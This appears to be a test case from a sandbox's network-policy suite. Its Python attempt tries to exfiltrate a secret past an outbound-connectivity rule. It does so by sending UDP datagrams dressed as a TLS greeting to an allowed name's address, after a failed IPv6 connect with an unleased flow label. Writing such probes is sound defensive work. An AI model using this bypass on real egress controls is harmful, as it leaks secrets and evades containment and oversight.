# class: network
# rule: outbound_connectivity
# policy: shared.yaml
# success: after a second connect that fails, datagrams go to an allowed name's address: one in the
#   form of a TLS greeting, then anything
# proof: word
# needs: resolver
import socket

from attack import SECRET, attempt, greeting, patience

IPV6_FLOWINFO_SEND = 33


@attempt
def send():
    sink = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sink.bind(("127.66.66.67", 443))
    sink.settimeout(patience(1))
    socket.getaddrinfo("api.allowed.example", 443)
    out = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
    out.setsockopt(socket.IPPROTO_IPV6, IPV6_FLOWINFO_SEND, 1)
    out.connect(("::ffff:127.66.66.67", 443))
    # A flow label that nobody leased.
    out.connect_ex(("::1", 9, 0xABCDE, 0))
    out.send(greeting("api.allowed.example"))
    out.send(SECRET.encode())
    sink.recv(5000)
    return sink.recv(100)
